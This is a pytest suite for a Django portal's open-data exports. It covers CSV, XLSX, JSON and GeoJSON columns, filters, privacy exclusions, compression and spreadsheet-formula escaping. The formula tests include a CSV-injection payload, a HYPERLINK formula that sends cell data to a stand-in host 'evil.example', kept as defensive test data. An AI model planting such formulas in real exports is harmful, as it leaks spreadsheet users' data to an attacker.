"""Open data downloads (CSV, XLSX, JSON, GeoJSON) and the open-data page."""

import csv
import datetime
import gzip
import io
import json
from decimal import Decimal

import openpyxl
import pytest
from django.conf import settings
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from portal.site.opendata import BOM, DATASETS, FORMATS, get_dataset
from projects.models import Project
from recommendations.models import Recommendation
from tests import factories
from tests.helpers import LANGUAGES

pytestmark = pytest.mark.django_db


def raw(response) -> bytes:
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def workbook(response) -> openpyxl.Workbook:
    assert response["Content-Type"] == FORMATS["xlsx"]
    return openpyxl.load_workbook(io.BytesIO(raw(response)))


def sheet_rows(response) -> tuple[list[str], list[dict]]:
    sheet = workbook(response).worksheets[0]
    header, *rows = sheet.iter_rows(values_only=True)
    return list(header), [dict(zip(header, row, strict=True)) for row in rows]


def body(response) -> str:
    """The file as text; a workbook's cells one per line."""
    if response["Content-Type"] == FORMATS["xlsx"]:
        return "\n".join(
            str(value)
            for sheet in workbook(response).worksheets
            for row in sheet.iter_rows(values_only=True)
            for value in row
            if value is not None
        )
    return raw(response).decode("utf-8")


def csv_rows(response) -> tuple[list[str], list[dict]]:
    text = body(response)
    assert text.startswith(BOM)
    reader = csv.DictReader(io.StringIO(text[len(BOM) :]))
    rows = list(reader)
    return reader.fieldnames, rows


def json_records(response) -> list[dict]:
    return json.loads(body(response))["records"]


def columns(key: str) -> list[str]:
    return [column.name for column in get_dataset(key).columns]


def association_with_everything(n: int = 1):
    association = factories.AssociationFactory(
        name_ar="جمعية الأمل للتنمية",
        name_fr="Association Al Amal",
        phone="+212 600 000 000",
        email="contact@amal.example.ma",
        website="https://amal.example.ma",
    )
    for _ in range(n):
        association.fields_of_activity.add(factories.FieldOfActivityFactory())
    return association


def project_with_everything(n: int = 1, **kwargs):
    project = factories.ProjectFactory(**kwargs)
    for _ in range(n):
        project.funders.add(factories.InstitutionFactory())
    return project


def recommendation_with_everything(n: int = 1, **kwargs):
    recommendation = factories.RecommendationFactory(**kwargs)
    for _ in range(n):
        recommendation.related_projects.add(factories.ProjectFactory())
    return recommendation


# --- CSV ---------------------------------------------------------------------


def test_associations_csv_has_the_documented_columns_and_intact_arabic(client):
    association = association_with_everything()
    response = client.get("/ar/associations/export.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    fieldnames, rows = csv_rows(response)
    assert fieldnames == columns("associations")
    assert [row["name"] for row in rows] == ["جمعية الأمل للتنمية"]
    assert rows[0]["name_ar"] == "جمعية الأمل للتنمية"
    assert rows[0]["url"] == f"{settings.SITE_URL}{association.get_absolute_url()}"
    assert rows[0]["website"] == "https://amal.example.ma"


def test_csv_text_is_in_the_request_language_with_arabic_column(client):
    factories.ProjectFactory(title_ar="تهيئة السوق", title_fr="Aménagement du marché")
    _names, rows = csv_rows(client.get("/fr/projects/export.csv"))
    assert rows[0]["title"] == "Aménagement du marché"
    assert rows[0]["title_ar"] == "تهيئة السوق"


def test_csv_falls_back_to_arabic_when_not_translated(client):
    factories.ProjectFactory(title_ar="تهيئة السوق", title_fr="", title_en="")
    _names, rows = csv_rows(client.get("/en/projects/export.csv"))
    assert rows[0]["title"] == "تهيئة السوق"


def test_projects_csv_columns_and_values(client):
    project = project_with_everything(2, status=Project.Status.COMPLETED)
    fieldnames, rows = csv_rows(client.get("/en/projects/export.csv"))
    assert fieldnames == columns("projects")
    row = rows[0]
    assert row["slug"] == project.slug
    assert row["status"] == "completed"
    assert Decimal(row["budget_mad"]) == Decimal("1500000.00")
    assert len(row["funders"].split(" | ")) == 2


def test_recommendations_csv_columns_and_values(client):
    recommendation = recommendation_with_everything(2, title_ar="إحداث مدرسة")
    hidden = factories.ProjectFactory(published=False)
    recommendation.related_projects.add(hidden)
    fieldnames, rows = csv_rows(client.get("/ar/recommendations/export.csv"))
    assert fieldnames == columns("recommendations")
    assert rows[0]["title"] == "إحداث مدرسة"
    assert rows[0]["meeting_url"].endswith(recommendation.meeting.get_absolute_url())
    related = rows[0]["related_projects"].split(" | ")
    assert len(related) == 2
    assert hidden.slug not in related


# --- JSON and GeoJSON ------------------------------------------------------------


@pytest.mark.parametrize("key", ["associations", "projects", "recommendations"])
def test_json_parses_with_licence_and_the_same_columns(client, key):
    association_with_everything()
    project_with_everything()
    recommendation_with_everything()
    response = client.get(f"/fr/{key}/export.json")
    assert response["Content-Type"] == "application/json; charset=utf-8"
    data = json.loads(body(response))
    assert data["dataset"] == key
    assert data["language"] == "fr"
    assert "Licence Ouverte" in data["licence"]["name"]
    assert data["records"]
    assert all(list(record) == columns(key) for record in data["records"])


def test_json_keeps_arabic_as_text_not_escapes(client):
    factories.AssociationFactory(name_ar="جمعية الواحة")
    text = body(client.get("/ar/associations/export.json"))
    assert "جمعية الواحة" in text


def test_geojson_is_a_feature_collection_of_located_projects(client):
    located = factories.ProjectFactory()
    factories.ProjectFactory(latitude=None, longitude=None)
    response = client.get("/en/projects/export.geojson")
    assert response["Content-Type"] == "application/geo+json; charset=utf-8"
    data = json.loads(body(response))
    assert data["type"] == "FeatureCollection"
    assert [feature["id"] for feature in data["features"]] == [located.pk]
    feature = data["features"][0]
    assert feature["type"] == "Feature"
    assert feature["geometry"] == {"type": "Point", "coordinates": [-10.06, 28.98]}
    assert feature["properties"]["slug"] == located.slug


def test_geojson_is_only_offered_for_projects(client):
    response = client.get("/en/associations/export.geojson", follow=True)
    assert response.status_code == 404


# --- Filters ---------------------------------------------------------------------


def test_associations_export_honours_the_commune_filter(client):
    kept = factories.AssociationFactory()
    factories.AssociationFactory()
    _names, rows = csv_rows(client.get(f"/en/associations/export.csv?commune={kept.commune.slug}"))
    assert [row["slug"] for row in rows] == [kept.slug]


def test_projects_export_honours_the_status_filter(client):
    kept = factories.ProjectFactory(status=Project.Status.COMPLETED)
    factories.ProjectFactory(status=Project.Status.IN_PROGRESS)
    records = json_records(client.get("/en/projects/export.json?status=completed"))
    assert [record["slug"] for record in records] == [kept.slug]
    data = json.loads(body(client.get("/en/projects/export.json?status=completed")))
    assert data["filters"] == {"status": "completed"}


def test_recommendations_export_honours_the_arabic_search(client):
    kept = factories.RecommendationFactory(title_ar="إحداث مدرسة جماعاتية")
    factories.RecommendationFactory(title_ar="تهيئة الطريق")
    _names, rows = csv_rows(client.get("/ar/recommendations/export.csv?q=مدرسه"))
    assert [int(row["id"]) for row in rows] == [kept.pk]


def test_export_with_an_invalid_filter_is_refused(client):
    response = client.get("/en/projects/export.csv?status=flying")
    assert response.status_code == 400
    assert "status" in response.content.decode()


def test_export_with_a_too_long_query_is_refused(client):
    response = client.get("/en/projects/export.json?q=" + "a" * 300)
    assert response.status_code == 400


def test_export_refuses_post(client):
    assert client.post("/en/projects/export.csv").status_code == 405


# --- What is never exported ---------------------------------------------------------


def test_no_unpublished_record_in_any_export(client):
    factories.AssociationFactory(name_ar="جمعية سرية", published=False)
    factories.ProjectFactory(title_ar="مشروع سري", published=False)
    factories.RecommendationFactory(title_ar="توصية سرية", published=False)
    factories.RecommendationFactory(
        title_ar="توصية لقاء سري", meeting=factories.MeetingFactory(published=False)
    )
    for key in ("associations", "projects", "recommendations"):
        for fmt in get_dataset(key).formats:
            text = body(client.get(f"/ar/{key}/export.{fmt}"))
            assert "سري" not in text, (key, fmt)


def test_no_personal_data_in_any_export(client):
    user = factories.UserFactory(email="someone.private@example.org")
    association = association_with_everything()
    factories.MembershipFactory(user=user, association=association)
    person = factories.PersonFactory()
    recommendation = recommendation_with_everything()
    meeting = recommendation.meeting
    factories.SessionFactory(meeting=meeting, chair=person)
    project_with_everything()
    for key in ("associations", "projects", "recommendations"):
        for fmt in get_dataset(key).formats:
            text = body(client.get(f"/en/{key}/export.{fmt}"))
            assert "someone.private@example.org" not in text
            assert "@" not in text.replace("@context", ""), (key, fmt)
            assert "+212 600 000 000" not in text
            assert person.full_name_ar not in text


# --- Queries ---------------------------------------------------------------------------


def export_queries(client, url: str) -> int:
    with CaptureQueriesContext(connection) as queries:
        body(client.get(url))
    return len(queries)


@pytest.mark.parametrize(
    ("url", "make"),
    [
        ("/ar/associations/export.csv", association_with_everything),
        ("/ar/associations/export.json", association_with_everything),
        ("/fr/projects/export.csv", project_with_everything),
        ("/fr/projects/export.json", project_with_everything),
        ("/fr/projects/export.geojson", project_with_everything),
        ("/fr/projects/export.xlsx", project_with_everything),
        ("/ar/associations/export.xlsx", association_with_everything),
        ("/en/recommendations/export.xlsx", recommendation_with_everything),
        ("/en/recommendations/export.csv", recommendation_with_everything),
        ("/en/recommendations/export.json", recommendation_with_everything),
    ],
)
def test_export_query_count_does_not_grow_with_rows(client, url, make):
    make(1)
    one = export_queries(client, url)
    for _ in range(6):
        make(3)
    assert export_queries(client, url) == one


# --- Links and the open-data page -----------------------------------------------------------


@pytest.mark.parametrize("lang", LANGUAGES)
def test_open_data_page_lists_every_download_and_field(client, lang):
    commune = factories.CommuneFactory()
    response = client.get(reverse("opendata:index").replace("/ar/", f"/{lang}/"))
    assert response.status_code == 200
    html = response.content.decode()
    for dataset in DATASETS:
        for fmt in dataset.formats:
            assert f"/{lang}/{dataset.key}/export.{fmt}" in html
        for column in dataset.columns:
            assert f">{column.name}<" in html
    assert "Licence Ouverte" in html
    assert f"/{lang}/calendar/communes/commune.ics" in html  # the pattern
    assert f"/{lang}/calendar/communes/{commune.slug}.ics" in html  # an example
    assert f"/{lang}/feeds/communes/{commune.slug}/meetings/" in html
    assert f"/{lang}/feeds/communes/{commune.slug}/recommendations/" in html


def test_footer_links_to_the_open_data_page(client):
    assert 'href="/fr/open-data/"' in client.get("/fr/").content.decode()


def test_list_page_download_links_keep_the_filters(client):
    project = factories.ProjectFactory(status=Project.Status.COMPLETED)
    html = client.get(f"/en/projects/?status=completed&commune={project.commune.slug}&page=1")
    html = html.content.decode()
    for fmt in ("csv", "json", "geojson"):
        assert (
            f"/en/projects/export.{fmt}?status=completed&amp;commune={project.commune.slug}" in html
        )
    assert "page=1" not in html.split("export.csv")[1].split('"')[0]


@pytest.mark.parametrize("key", ["associations", "recommendations"])
def test_other_list_pages_link_their_downloads(client, key):
    html = client.get(f"/en/{key}/").content.decode()
    assert f"/en/{key}/export.csv" in html
    assert f"/en/{key}/export.json" in html


def test_recommendation_status_codes_are_documented(client):
    html = client.get("/en/open-data/").content.decode()
    for code in Recommendation.Status.values:
        assert f">{code}<" in html


@pytest.mark.parametrize(
    ("make", "url"),
    [
        (factories.ProjectFactory, "/en/projects/export.csv"),
        (factories.RecommendationFactory, "/en/recommendations/export.csv"),
    ],
    ids=["projects", "recommendations"],
)
def test_exports_say_which_records_are_illustrative(client, make, url):
    example, reported = make(illustrative=True), make(illustrative=False)

    _names, rows = csv_rows(client.get(url))

    flags = {int(row["id"]): row["illustrative"] for row in rows}
    assert flags[example.pk] != flags[reported.pk]
    assert flags[example.pk].lower() in ("true", "1", "yes")


# --- Spreadsheets: formulas, XLSX ----------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTabbed",
    "\rReturn",
]


def test_csv_neutralises_every_cell_that_a_spreadsheet_would_take_for_a_formula(client):
    commune = factories.CommuneFactory()
    for index, name in enumerate(FORMULAS):
        association = factories.AssociationFactory(
            commune=commune, name_ar=f"جمعية {index}", name_en=name, address=name
        )
        association.fields_of_activity.add(factories.FieldOfActivityFactory(name_en=name))
    _names, rows = csv_rows(client.get("/en/associations/export.csv"))
    assert len(rows) == len(FORMULAS)
    for row, name in zip(sorted(rows, key=lambda r: int(r["id"])), FORMULAS, strict=True):
        assert row["name"] == "'" + name
        assert row["address"] == "'" + name
        assert row["fields_of_activity"] == "'" + name
        assert row["name_ar"].startswith("جمعية")  # text that is no formula stays as it is


def test_csv_neutralises_formulas_in_projects_and_recommendations(client):
    project = factories.ProjectFactory(title_en="=1+1", location_name="@A1")
    recommendation = factories.RecommendationFactory(title_en="-cmd", text_en="+A1")
    _n, (row,) = csv_rows(client.get("/en/projects/export.csv"))
    assert (row["title"], row["location_name"]) == ("'=1+1", "'@A1")
    _n, rows = csv_rows(client.get("/en/recommendations/export.csv"))
    row = next(r for r in rows if int(r["id"]) == recommendation.pk)
    assert (row["title"], row["text"]) == ("'-cmd", "'+A1")
    assert project.pk


def test_csv_keeps_negative_numbers_as_numbers(client):
    factories.ProjectFactory(latitude=Decimal("28.983"), longitude=Decimal("-10.067"))
    _n, (row,) = csv_rows(client.get("/en/projects/export.csv"))
    assert Decimal(row["longitude"]) == Decimal("-10.067")


@pytest.mark.parametrize("key", ["associations", "projects", "recommendations"])
def test_xlsx_has_the_csv_columns_and_rows(client, key):
    make = {
        "associations": association_with_everything,
        "projects": project_with_everything,
        "recommendations": recommendation_with_everything,
    }[key]
    make(2)
    response = client.get(f"/fr/{key}/export.xlsx")
    assert response["Content-Disposition"] == f'attachment; filename="sharaka-{key}-fr.xlsx"'
    header, rows = sheet_rows(response)
    _csv_header, csv_records = csv_rows(client.get(f"/fr/{key}/export.csv"))
    assert header == columns(key)
    assert [row["id"] for row in rows] == [int(r["id"]) for r in csv_records]


def test_xlsx_cells_are_never_formulas(client):
    for index, name in enumerate(FORMULAS):
        factories.AssociationFactory(name_ar=f"جمعية {index}", name_en=name)
    book = workbook(client.get("/en/associations/export.xlsx"))
    sheet = book.worksheets[0]
    names = []
    for row in sheet.iter_rows(min_row=2):
        cell = row[columns("associations").index("name")]
        assert cell.data_type == "s", cell.value
        names.append(cell.value)
    # XML reads a carriage return as a line feed; the text is otherwise intact.
    assert sorted(names) == sorted(name.replace("\r", "\n") for name in FORMULAS)


def test_xlsx_types_numbers_dates_and_booleans(client):
    project = factories.ProjectFactory(
        title_ar="مشروع المسبح المغطى",
        progress=75,
        budget=Decimal("1500000.50"),
        start_date=datetime.date(2011, 3, 1),
        longitude=Decimal("-10.067"),
        latitude=Decimal("28.983"),
        illustrative=True,
    )
    _header, (row,) = sheet_rows(client.get("/ar/projects/export.xlsx"))
    assert row["title"] == "مشروع المسبح المغطى"
    assert row["progress"] == 75
    assert row["budget_mad"] == 1500000.5
    assert row["longitude"] == pytest.approx(-10.067)
    assert row["start_date"] == datetime.datetime(2011, 3, 1)
    assert row["illustrative"] is True
    assert datetime.datetime.fromisoformat(row["updated_at"]) == project.updated_at


def test_arabic_xlsx_reads_right_to_left_and_french_left_to_right(client):
    factories.AssociationFactory()
    arabic = workbook(client.get("/ar/associations/export.xlsx"))
    french = workbook(client.get("/fr/associations/export.xlsx"))
    assert all(sheet.sheet_view.rightToLeft for sheet in arabic.worksheets)
    assert not any(sheet.sheet_view.rightToLeft for sheet in french.worksheets)


def test_xlsx_says_its_licence_and_filters(client):
    project = factories.ProjectFactory()
    book = workbook(client.get(f"/en/projects/export.xlsx?commune={project.commune.slug}"))
    about = "\n".join(
        str(value) for row in book.worksheets[1].iter_rows(values_only=True) for value in row
    )
    assert "Licence Ouverte" in about
    assert project.commune.slug in about


def test_xlsx_drops_characters_a_spreadsheet_cannot_hold(client):
    factories.AssociationFactory(name_en="Amal\x07 association\x1b")
    _header, (row,) = sheet_rows(client.get("/en/associations/export.xlsx"))
    assert row["name"] == "Amal association"


def test_xlsx_with_an_invalid_filter_is_refused(client):
    response = client.get("/en/projects/export.xlsx?status=nonsense")
    assert response.status_code == 400


# --- Compression ----------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "json", "geojson"])
def test_text_exports_are_gzipped_for_a_client_that_accepts_it(client, fmt):
    project_with_everything(latitude=Decimal("28.98"), longitude=Decimal("-10.06"))
    plain = client.get(f"/fr/projects/export.{fmt}")
    zipped = client.get(f"/fr/projects/export.{fmt}", HTTP_ACCEPT_ENCODING="gzip, deflate, br")
    assert zipped.streaming
    assert zipped["Content-Encoding"] == "gzip"
    assert "Accept-Encoding" in zipped["Vary"]
    assert not plain.has_header("Content-Encoding")
    assert "Accept-Encoding" in plain["Vary"]
    plain_text = raw(plain).decode()
    unzipped = gzip.decompress(raw(zipped)).decode()
    # Only the date the file was made may differ between the two downloads.
    if fmt == "csv":
        assert unzipped == plain_text
    else:
        assert json.loads(unzipped)["dataset"] == json.loads(plain_text)["dataset"]


def test_export_is_not_gzipped_when_the_client_refuses_it(client):
    response = client.get("/fr/projects/export.csv", HTTP_ACCEPT_ENCODING="gzip;q=0, identity")
    assert not response.has_header("Content-Encoding")
    assert raw(response).decode().startswith(BOM)


def test_gzipped_csv_of_many_rows_is_much_smaller(client):
    factories.ProjectFactory.create_batch(40, summary_ar="مشروع تنموي " * 20)
    plain = raw(client.get("/ar/projects/export.csv"))
    zipped = raw(client.get("/ar/projects/export.csv", HTTP_ACCEPT_ENCODING="gzip"))
    assert len(zipped) * 4 < len(plain)


def test_open_data_page_does_not_list_every_commune(client):
    communes = factories.CommuneFactory.create_batch(5)
    html = client.get("/en/open-data/").content.decode()
    shown = [c for c in communes if f"/en/calendar/communes/{c.slug}.ics" in html]
    assert len(shown) == 1
